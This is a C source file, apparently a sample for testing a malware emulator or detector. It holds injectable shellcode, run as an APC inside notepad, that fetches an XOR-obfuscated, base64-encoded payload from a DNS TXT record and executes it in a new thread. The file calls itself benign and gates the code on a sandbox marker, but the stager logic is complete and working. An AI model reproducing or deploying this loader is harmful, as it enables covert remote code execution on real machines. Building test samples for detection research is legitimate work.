/*
 * beacon_dns.c - combo-apc-dns-x86: the code injected into notepad, run as an APC (benign,
 * emulator-only). Position independent, one function, no data; its context block is the APC's
 * argument. Checks the sandbox marker, asks DNS for the TXT record of ctx->dns_name
 * (DnsQuery_A), joins its strings, base64-decodes them (CryptStringToBinaryA), XORs them with a
 * 4-byte key into new RW memory, makes it RX and runs it in a thread with the same context
 * block, waiting for it. Returns 0 ok, 1 no marker, 2 DNS, 3 decode, 4 memory, 5 thread.
 */
#include "remote.h"

DWORD WINAPI sc_main(struct remote_ctx *c)
{
    char buf[16], text[2048];
    BYTE raw[1536];
    PDNS_RECORD rec = 0;
    DWORD n, i, total = 0, old;
    const char *s;
    unsigned char *mem;
    HANDLE t;

    n = c->pGetEnvironmentVariableA(c->marker_name, buf, sizeof(buf));
    for (i = 0; i < n && c->marker_value[i] && buf[i] == c->marker_value[i]; i++)
        ;
    if (n == 0 || i != n || c->marker_value[i])
        return 1;
    if (c->pDnsQuery_A(c->dns_name, DNS_TYPE_TEXT, DNS_QUERY_STANDARD, 0, &rec, 0) != 0 || !rec)
        return 2;
    for (i = 0; i < rec->Data.TXT.dwStringCount; i++)
        for (s = rec->Data.TXT.pStringArray[i]; *s && total < sizeof(text) - 1; s++)
            text[total++] = *s;
    c->pDnsRecordListFree(rec, DnsFreeRecordList);
    n = sizeof(raw);
    if (total < 16 || !c->pCryptStringToBinaryA(text, total, CRYPT_STRING_BASE64, raw, &n, 0, 0) || n == 0)
        return 3;
    mem = (unsigned char *)c->pVirtualAlloc(0, n, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        return 4;
    for (i = 0; i < n; i++)
        mem[i] = raw[i] ^ (unsigned char)(c->key >> (8 * (i & 3)));
    if (!c->pVirtualProtect(mem, n, PAGE_EXECUTE_READ, &old))
        return 4;
    t = c->pCreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)mem, c, 0, 0);
    if (!t)
        return 5;
    c->pWaitForSingleObject(t, INFINITE);
    return 0;
}
